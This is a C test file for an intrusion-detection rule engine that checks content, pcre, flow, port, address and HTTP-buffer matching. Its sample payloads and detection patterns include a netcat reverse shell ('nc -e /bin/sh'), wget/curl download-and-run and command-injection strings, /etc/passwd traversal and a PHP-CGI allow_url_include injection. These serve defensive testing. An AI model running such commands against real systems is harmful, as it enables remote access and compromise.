// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * Matching semantics, one row per case: rules, a sample, and exactly which sids it must
 * raise. Content positions (offset/depth/distance/within across several contents,
 * backtracking), negation, nocase, pcre (also relative and negated), isdataat, dsize,
 * flow, protocol, ports, addresses, variables, '<>', and the HTTP buffers.
 */
#include <stdlib.h>

#include "../support/test.h"
#include "../rules/rules_test.h"

#define ANY "alert tcp any any -> any any "
#define HTTP_GET(uri) "GET " uri " HTTP/1.1\r\nHost: gw.example.net\r\nUser-Agent: curl/8.5.0\r\n\r\n"

struct match_case {
	const char *name;
	const char *rules;
	const char *payload;
	const char *want;	/* matched sids in rule order, "" for none */
	/* overrides of test_input(): 0 / NULL keep the default */
	uint8_t proto;
	int8_t to_server;	/* 1 / -1 (to client) */
	int8_t established;	/* 1 / -1 (not established) */
	const char *src;
	const char *dst;
	uint16_t sport;
	uint16_t dport;
	uint32_t orig_len;
};

static const struct match_case cases[] = {
	/* offset / depth */
	{ "offset_depth_inside", ANY "(content:\"abc\"; offset:2; depth:3; sid:1;)", "xxabcyy", "1" },
	{ "offset_depth_outside", ANY "(content:\"abc\"; offset:2; depth:3; sid:1;)", "xxxabc", "" },
	{ "offset_before", ANY "(content:\"abc\"; offset:2; sid:1;)", "abcx", "" },
	{ "depth_only", ANY "(content:\"GET\"; depth:3; sid:1;)", "GET /", "1" },
	{ "depth_only_late", ANY "(content:\"GET\"; depth:3; sid:1;)", " GET /", "" },
	/* distance / within, relative to the previous match's end */
	{ "distance_within_ok", ANY "(content:\"GET\"; content:\"admin\"; distance:1; within:10; "
	  "sid:1;)", "GET /admin", "1" },
	{ "within_too_far", ANY "(content:\"GET\"; content:\"admin\"; distance:1; within:10; "
	  "sid:1;)", "GET /xxxxxxxxxxxxxxadmin", "" },
	{ "distance_too_close", ANY "(content:\"GET\"; content:\"admin\"; distance:1; sid:1;)",
	  "GETadmin", "" },
	{ "distance_zero_adjacent", ANY "(content:\"ab\"; content:\"cd\"; distance:0; within:2; "
	  "sid:1;)", "xxabcdxx", "1" },
	{ "negative_distance", ANY "(content:\"cd\"; content:\"bc\"; distance:-3; within:2; "
	  "sid:1;)", "abcd", "1" },
	{ "relative_to_start_when_first", ANY "(content:\"ab\"; within:3; sid:1;)", "xab", "1" },
	{ "relative_to_start_when_first_late", ANY "(content:\"ab\"; within:3; sid:1;)", "xxab",
	  "" },
	{ "three_contents_chain", ANY "(content:\"a\"; content:\"b\"; distance:0; within:1; "
	  "content:\"c\"; distance:0; within:1; sid:1;)", "ab-abd-abc", "1" },
	{ "backtracking_finds_later_match", ANY "(content:\"a\"; content:\"b\"; distance:0; "
	  "within:1; sid:1;)", "a-a-ab", "1" },
	{ "absolute_contents_any_order", ANY "(content:\"second\"; content:\"first\"; sid:1;)",
	  "first then second", "1" },
	/* negation */
	{ "negated_absent", ANY "(content:\"login\"; content:!\"secure\"; distance:0; sid:1;)",
	  "login?user=x", "1" },
	{ "negated_present_after", ANY "(content:\"login\"; content:!\"secure\"; distance:0; "
	  "sid:1;)", "login?secure=1", "" },
	{ "negated_before_is_fine", ANY "(content:\"login\"; content:!\"secure\"; distance:0; "
	  "sid:1;)", "secure login", "1" },
	{ "negated_absolute", ANY "(content:\"cmd\"; content:!\"safe\"; sid:1;)", "safe cmd", "" },
	{ "only_negated_content", ANY "(content:!\"HTTP\"; sid:1;)", "SSH-2.0", "1" },
	{ "only_negated_content_present", ANY "(content:!\"HTTP\"; sid:1;)", "GET / HTTP/1.1", "" },
	/* nocase, startswith, endswith, hex */
	{ "nocase", ANY "(content:\"CMD.EXE\"; nocase; sid:1;) " "\n" ANY
	  "(content:\"CMD.EXE\"; sid:2;)", "run cmd.exe /c", "1" },
	{ "nocase_in_several_buffers", ANY "(content:\"HOST: GW\"; nocase; sid:1;)\n" ANY
	  "(http.header; content:\"user-agent: CURL\"; nocase; sid:2;)\n" ANY
	  "(http.uri; content:\"/ETC/\"; nocase; content:\"PASSWD\"; nocase; distance:0; "
	  "sid:3;)\n" ANY "(http.uri; content:\"/ETC/\"; sid:4;)",
	  HTTP_GET("/etc/passwd"), "1,2,3" },
	{ "startswith", ANY "(content:\"MZ\"; startswith; sid:1;)\n" ANY
	  "(content:\"Z\"; startswith; sid:2;)", "MZ\x90", "1" },
	{ "endswith", ANY "(content:\";id\"; endswith; sid:1;)\n" ANY
	  "(content:\"x;\"; endswith; sid:2;)", "x;id", "1" },
	{ "hex_bytes", ANY "(content:\"|de ad|BE|ef|\"; sid:1;)", "\x01\xde\xad" "BE\xef", "1" },
	/* pcre */
	{ "pcre_flags", ANY "(pcre:\"/wget\\s+http/i\"; sid:1;)", "WGET  http://x/a.sh", "1" },
	{ "pcre_relative_anchor", ANY "(content:\"id=\"; pcre:\"/^[0-9]+;/R\"; sid:1;)",
	  "x=a;id=123;", "1" },
	{ "pcre_relative_no", ANY "(content:\"id=\"; pcre:\"/^[0-9]+;/R\"; sid:1;)", "id=abc;", "" },
	{ "pcre_relative_retry", ANY "(content:\"id=\"; pcre:\"/^[0-9]+;/R\"; sid:1;)",
	  "id=x;id=7;", "1" },
	{ "pcre_then_relative_content", ANY "(pcre:\"/user=[a-z]+/\"; content:\"&pw\"; distance:0; "
	  "within:3; sid:1;)", "user=bob&pw=1", "1" },
	{ "pcre_negated", ANY "(content:\"exec\"; pcre:!\"/exec\\s+safe/\"; sid:1;)", "exec rm",
	  "1" },
	{ "pcre_negated_present", ANY "(content:\"exec\"; pcre:!\"/exec\\s+safe/\"; sid:1;)",
	  "exec safe", "" },
	{ "pcre_only_with_content_free_rule", ANY "(pcre:\"/(?:nc|ncat)\\s+-e\\s+\\/bin\\/sh/\"; "
	  "sid:1;)", "nc -e /bin/sh 10.0.0.1", "1" },
	{ "pcre_callout_no_hyperscan", ANY "(pcre:\"/ab(?C1)cd/\"; sid:1;)", "xxabcdxx", "1" },
	/* isdataat */
	{ "isdataat_relative_yes", ANY "(content:\"USER \"; isdataat:10,relative; sid:1;)",
	  "USER aaaaaaaaaaaaaaaa", "1" },
	{ "isdataat_relative_no", ANY "(content:\"USER \"; isdataat:10,relative; sid:1;)",
	  "USER aaa", "" },
	{ "isdataat_negated", ANY "(content:\"END\"; isdataat:!1,relative; sid:1;)", "xEND", "1" },
	{ "isdataat_absolute", ANY "(content:\"x\"; isdataat:5; sid:1;)", "x12345", "1" },
	/* dsize uses the length on the wire, not the sampled length */
	{ "dsize_small", ANY "(dsize:<10; sid:1;)\n" ANY "(dsize:>=10; sid:2;)", "short", "1" },
	{ "dsize_orig_len", ANY "(dsize:<10; sid:1;)\n" ANY "(dsize:>=10; sid:2;)", "short", "2",
	  .orig_len = 1400 },
	{ "dsize_range", ANY "(dsize:2<>6; sid:1;)\n" ANY "(dsize:!5; sid:2;)", "12345", "1" },
	/* protocols */
	{ "proto_udp_rule_tcp_sample", "alert udp any any -> any any (content:\"x\"; sid:1;)\n"
	  "alert ip any any -> any any (content:\"x\"; sid:2;)", "x", "2" },
	{ "proto_udp", "alert udp any any -> any 53 (content:\"x\"; sid:1;)", "x", "1",
	  .proto = IPPROTO_UDP, .dport = 53 },
	{ "proto_icmp", "alert icmp any any -> any any (content:\"ping\"; sid:1;)\n"
	  "alert tcp any any -> any any (content:\"ping\"; sid:2;)", "ping", "1",
	  .proto = IPPROTO_ICMP },
	{ "proto_icmpv6", "alert icmp any any -> any any (content:\"ping\"; sid:1;)", "ping", "1",
	  .proto = IPPROTO_ICMPV6, .src = "2001:db8::5", .dst = "2001:db8::1" },
	/* ports and variables */
	{ "port_match", ANY "(content:\"x\"; sid:1;)\nalert tcp any any -> any 80 (content:\"x\"; "
	  "sid:2;)\nalert tcp any any -> any 8080 (content:\"x\"; sid:3;)", "x", "1,2" },
	{ "port_list_negation", "alert tcp any any -> any [1:1023,!22] (content:\"x\"; sid:1;)",
	  "x", "", .dport = 22 },
	{ "port_list_negation_other", "alert tcp any any -> any [1:1023,!22] (content:\"x\"; "
	  "sid:1;)", "x", "1", .dport = 23 },
	{ "port_open_range", "alert tcp any 1024: -> any :1023 (content:\"x\"; sid:1;)", "x", "1" },
	{ "port_variable", "alert tcp any any -> any $HTTP_PORTS (content:\"x\"; sid:1;)", "x", "",
	  .dport = 8080 },
	{ "home_external", "alert tcp $EXTERNAL_NET any -> $HOME_NET any (content:\"x\"; sid:1;)\n"
	  "alert tcp $HOME_NET any -> $EXTERNAL_NET any (content:\"x\"; sid:2;)", "x", "1" },
	{ "home_v6", "alert tcp any any -> $HOME_NET any (content:\"x\"; sid:1;)\n"
	  "alert tcp any any -> !$HOME_NET any (content:\"x\"; sid:2;)", "x", "1",
	  .src = "2001:db8:1::5", .dst = "2001:db8::1" },
	{ "address_list_negation", "alert tcp any any -> [198.18.0.0/15,!198.18.0.1] any "
	  "(content:\"x\"; sid:1;)\nalert tcp any any -> [198.18.0.0/15,!198.18.0.2] any "
	  "(content:\"x\"; sid:2;)", "x", "2" },
	{ "address_range", "alert tcp 203.0.113.1-203.0.113.9 any -> any any (content:\"x\"; "
	  "sid:1;)", "x", "1" },
	/* direction */
	{ "one_way_reverse", "alert tcp $HOME_NET 80 -> $EXTERNAL_NET any (content:\"x\"; sid:1;)",
	  "x", "" },
	{ "bidirectional", "alert tcp $HOME_NET 80 <> $EXTERNAL_NET any (content:\"x\"; sid:1;)",
	  "x", "1" },
	/* flow */
	{ "flow_to_server", ANY "(flow:to_server,established; content:\"x\"; sid:1;)\n" ANY
	  "(flow:to_client; content:\"x\"; sid:2;)\n" ANY "(flow:not_established; content:\"x\"; "
	  "sid:3;)\n" ANY "(flow:stateless; content:\"x\"; sid:4;)", "x", "1,4" },
	{ "flow_to_client", ANY "(flow:to_server; content:\"x\"; sid:1;)\n" ANY
	  "(flow:from_server,not_established; content:\"x\"; sid:2;)", "x", "2",
	  .to_server = -1, .established = -1 },
	/* HTTP buffers */
	{ "http_uri_normalised", "alert http any any -> any any (http.uri; content:\"/etc/passwd\"; "
	  "sid:1;)\nalert http any any -> any any (http.uri.raw; content:\"%2e%2e\"; sid:2;)\n"
	  "alert http any any -> any any (http.uri; content:\"%2e\"; sid:3;)\n"
	  "alert tcp any any -> any any (content:\"/etc/passwd\"; sid:4;)",
	  HTTP_GET("/cgi-bin/%2e%2e/%2e%2e//etc/passwd"), "1,2,4" },
	{ "http_legacy_modifiers", ANY "(content:\"/etc/passwd\"; http_uri; content:\"GET\"; "
	  "http_method; content:\"curl\"; http_user_agent; content:\"gw.example\"; http_host; "
	  "content:\"Host|3a| gw\"; http_header; sid:1;)", HTTP_GET("/a/../etc/passwd"), "1" },
	{ "http_sticky_buffers", ANY "(http.method; content:\"GET\"; http.uri; content:\"passwd\"; "
	  "http.user_agent; content:\"curl/\"; startswith; http.host; content:\"example.net\"; "
	  "endswith; http.header; content:\"User-Agent|3a| curl\"; sid:1;)",
	  HTTP_GET("/etc/passwd"), "1" },
	{ "http_host_case", ANY "(http.host; content:\"gw.example.net\"; sid:1;)",
	  "GET / HTTP/1.1\r\nHost: GW.Example.NET:8080\r\n\r\n", "1" },
	{ "http_body", "alert http any any -> any any (http.method; content:\"POST\"; "
	  "http.request_body; content:\"cmd=\"; pcre:\"/cmd=[^&]*(wget|curl)/\"; sid:1;)\n"
	  "alert http any any -> any any (content:\"cmd=\"; http_client_body; content:\"id\"; "
	  "http_client_body; distance:0; sid:2;)",
	  "POST /x HTTP/1.1\r\nContent-Length: 20\r\n\r\ncmd=;curl http://e/", "1" },
	{ "http_pcre_buffer_flags", ANY "(pcre:\"/\\/shell\\.php$/U\"; sid:1;)\n" ANY
	  "(pcre:\"/^curl/V\"; sid:2;)\n" ANY "(pcre:\"/^GET$/M\"; sid:3;)\n" ANY
	  "(pcre:\"/^gw\\./W\"; sid:4;)\n" ANY "(pcre:\"/%2e/I\"; sid:5;)\n" ANY
	  "(pcre:\"/^Host: /Hm\"; sid:6;)", HTTP_GET("/up/%2e/../shell.php"), "1,2,3,4,5,6" },
	{ "http_rule_on_non_http", "alert http any any -> any any (content:\"x\"; sid:1;)\n"
	  "alert tcp any any -> any any (http.uri; content:!\"y\"; sid:2;)\n"
	  "alert tcp any any -> any any (content:\"x\"; sid:3;)", "x marks the spot", "3" },
	{ "http_truncated_header", ANY "(http.user_agent; content:\"python-req\"; sid:1;)\n" ANY
	  "(http.header; content:\"User-Agent|3a| python-req\"; sid:2;)",
	  "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: python-req", "1,2" },
	{ "http_absent_header", ANY "(http.user_agent; content:!\"curl\"; sid:1;)",
	  "GET / HTTP/1.1\r\nHost: a\r\n\r\n", "" },
	{ "http_udp_not_parsed", "alert ip any any -> any any (http.uri; content:\"/\"; sid:1;)",
	  HTTP_GET("/"), "", .proto = IPPROTO_UDP },
	/* prefilter choice never changes the outcome */
	{ "short_fast_pattern", ANY "(content:\"a\"; fast_pattern; content:\"needle\"; sid:1;)",
	  "needle in a haystack", "1" },
	{ "order_is_rule_order", ANY "(content:\"zz\"; sid:30;)\n" ANY "(content:\"aa\"; sid:10;)\n"
	  ANY "(pcre:\"/a+z+/\"; sid:20;)", "aazz", "30,10,20" },
};

static struct scan_input build_input(const struct match_case *c)
{
	struct scan_input in = test_input(c->payload);

	if (c->proto)
		in.proto = c->proto;
	if (c->to_server)
		in.to_server = c->to_server > 0;
	if (c->established)
		in.established = c->established > 0;
	if (c->src && strchr(c->src, ':')) {
		in.family = 6;
		inet_pton(AF_INET6, c->src, in.src_addr);
	} else if (c->src) {
		inet_pton(AF_INET, c->src, in.src_addr);
	}
	if (c->dst && strchr(c->dst, ':'))
		inet_pton(AF_INET6, c->dst, in.dst_addr);
	else if (c->dst)
		inet_pton(AF_INET, c->dst, in.dst_addr);
	if (c->sport)
		in.src_port = c->sport;
	if (c->dport)
		in.dst_port = c->dport;
	if (c->orig_len)
		in.orig_len = c->orig_len;
	return in;
}

static void check_case(struct test_case *t, const struct match_case *c)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct test_matches matches;
	struct scan_input in = build_input(c);
	char got[256];
	int err = test_load_text(c->rules, &rs, &report, NULL);

	if (err) {
		test_fail(t, __FILE__, __LINE__, "load failed (%d): %d:%d %s: %s", err,
			  report.count ? report.problems[0].line : 0,
			  report.count ? report.problems[0].column : 0,
			  report.count ? report.problems[0].keyword : "",
			  report.count ? report.problems[0].message : "");
		rules_report_free(&report);
		return;
	}
	err = test_scan(rs, &in, &matches);
	EXPECT(t, err == 0, "scan failed: %d", err);
	test_sids_text(&matches, got, sizeof(got));
	EXPECT(t, strcmp(got, c->want[0] ? c->want : "none") == 0, "matched %s, want %s", got,
	       c->want[0] ? c->want : "none");
	ruleset_free(rs);
	rules_report_free(&report);
}

static int stop_after_first(const struct rule_info *rule, const struct scan_input *in,
			    const struct http_request *http, void *user)
{
	test_collect(rule, in, http, user);
	return 1;
}

static void test_callback_stops_scan(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct test_matches matches = { 0 };
	struct scan_input in = test_input("abc");
	struct scan_ctx *ctx;

	CHECK(t, test_load_text(ANY "(content:\"a\"; sid:1;)\n" ANY "(content:\"b\"; sid:2;)", &rs,
				&report, NULL) == 0,
	      "load");
	ctx = scan_ctx_new(rs);
	CHECK(t, ctx, "ctx");
	EXPECT(t, ruleset_scan(rs, ctx, &in, stop_after_first, &matches) == 0, "scan");
	EXPECT(t, matches.count == 1 && matches.sids[0] == 1, "%zu matches", matches.count);
	/* a stopped scan leaves the context clean for the next sample */
	memset(&matches, 0, sizeof(matches));
	EXPECT(t, ruleset_scan(rs, ctx, &in, test_collect, &matches) == 0 && matches.count == 2,
	       "next scan: %zu matches", matches.count);
	scan_ctx_free(ctx);
	ruleset_free(rs);
	rules_report_free(&report);
}

static void test_http_passed_to_callback(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct test_matches matches;
	struct scan_input in = test_input(HTTP_GET("/x"));

	CHECK(t, test_load_text(ANY "(http.uri; content:\"/x\"; sid:1;)", &rs, &report, NULL) == 0,
	      "load");
	EXPECT(t, test_scan(rs, &in, &matches) == 0 && matches.count == 1 && matches.saw_http,
	       "the callback should get the parsed request");
	ruleset_free(rs);
	rules_report_free(&report);
}

static void test_stats(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct scan_input in = test_input("GET /a HTTP/1.1\r\nHost: x");
	struct test_matches matches = { 0 };
	struct scan_stats stats;
	struct scan_ctx *ctx;

	CHECK(t, test_load_text(ANY "(http.host; content:\"x\"; sid:1;)\n" ANY
				    "(content:\"nothere\"; sid:2;)",
				&rs, &report, NULL) == 0,
	      "load");
	ctx = scan_ctx_new(rs);
	CHECK(t, ctx, "ctx");
	EXPECT(t, ruleset_scan(rs, ctx, &in, test_collect, &matches) == 0, "scan");
	scan_ctx_stats(ctx, &stats);
	EXPECT(t, stats.samples == 1 && stats.http_requests == 1 && stats.http_truncated == 1 &&
			  stats.candidates == 1 && stats.matches == 1 && stats.budget_exhausted == 0,
	       "stats %llu/%llu/%llu/%llu/%llu", (unsigned long long)stats.samples,
	       (unsigned long long)stats.http_requests, (unsigned long long)stats.http_truncated,
	       (unsigned long long)stats.candidates, (unsigned long long)stats.matches);
	EXPECT(t, ruleset_scan(rs, ctx, NULL, test_collect, &matches) == -EINVAL, "NULL input");
	scan_ctx_free(ctx);
	ruleset_free(rs);
	rules_report_free(&report);
}

/* A hostile sample against a backtracking rule: bounded, counted, never a hang. */
static void test_backtracking_budget(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct test_matches matches = { 0 };
	struct scan_stats stats;
	struct scan_ctx *ctx;
	struct scan_input in;
	char *payload = malloc(65536);

	CHECK(t, payload, "malloc");
	memset(payload, 'a', 65535);
	payload[65535] = '\0';
	in = test_input(payload);
	if (test_load_text(ANY "(content:\"a\"; content:\"A\"; nocase; distance:0; "
			       "content:\"a\"; distance:0; content:\"b\"; distance:0; sid:1;)",
			   &rs, &report, NULL)) {
		free(payload);
		CHECK(t, 0, "load");
	}
	ctx = scan_ctx_new(rs);
	EXPECT(t, ctx && ruleset_scan(rs, ctx, &in, test_collect, &matches) == 0, "scan");
	if (ctx) {
		scan_ctx_stats(ctx, &stats);
		EXPECT(t, matches.count == 0 && stats.budget_exhausted == 1,
		       "%zu matches, %llu budget exhausted", matches.count,
		       (unsigned long long)stats.budget_exhausted);
	}
	scan_ctx_free(ctx);
	ruleset_free(rs);
	rules_report_free(&report);
	free(payload);
}

/*
 * A 1-2 byte content ("d", "/", "cd") is in nearly every request: as the prefilter it sent
 * almost every sample to the confirm step. The rule's pcre is the prefilter then; a
 * benign request is no candidate, an attack still matches.
 */
static void test_short_content_pcre_prefilter(struct test_case *t)
{
	static const char rules[] =
		"alert http any any -> any any (msg:\"d\"; http.uri.raw; content:\"d\"; "
		"pcre:\"/\\?(?:%ad|%2d|-)d(?:\\+|%20)+allow_url_include/i\"; sid:1;)\n"
		"alert tcp any any -> any any (msg:\"cd\"; content:\"cd\"; nocase; "
		"pcre:\"/cd\\s+\\/tmp\\s*;\\s*wget/i\"; sid:2;)\n";
	struct scan_input benign = test_input("GET /download/index.d?id=5 HTTP/1.1\r\n"
					      "Host: cd.example\r\n\r\n");
	struct scan_input attack = test_input("GET /x.php?-d+allow_url_include=1 HTTP/1.1\r\n"
					      "X-Cmd: cd /tmp; wget http://198.18.0.9/a\r\n\r\n");
	struct test_matches matches = { 0 };
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct scan_ctx *ctx = NULL;
	struct scan_stats stats;

	CHECK(t, test_load_text(rules, &rs, &report, NULL) == 0, "load");
	EXPECT(t, report.no_prefilter == 0, "%zu rules without a prefilter", report.no_prefilter);
	ctx = scan_ctx_new(rs);
	EXPECT(t, ctx && ruleset_scan(rs, ctx, &benign, test_collect, &matches) == 0, "scan");
	if (ctx) {
		scan_ctx_stats(ctx, &stats);
		EXPECT(t, stats.candidates == 0 && matches.count == 0,
		       "a benign request with 'd' and 'cd' made %llu candidates, %zu matches",
		       (unsigned long long)stats.candidates, matches.count);
		EXPECT(t, ruleset_scan(rs, ctx, &attack, test_collect, &matches) == 0 &&
				  matches.count == 2 && matches.sids[0] == 1 && matches.sids[1] == 2,
		       "the attack raises both rules (%zu matches)", matches.count);
	}
	scan_ctx_free(ctx);
	ruleset_free(rs);
	rules_report_free(&report);
}

int main(void)
{
	size_t i;

	test_program = "test_rules_match";
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		RUN_ROW(check_case, cases[i].name, &cases[i]);
	RUN(test_callback_stops_scan);
	RUN(test_http_passed_to_callback);
	RUN(test_stats);
	RUN(test_backtracking_budget);
	RUN(test_short_content_pcre_prefilter);
	return test_summary();
}
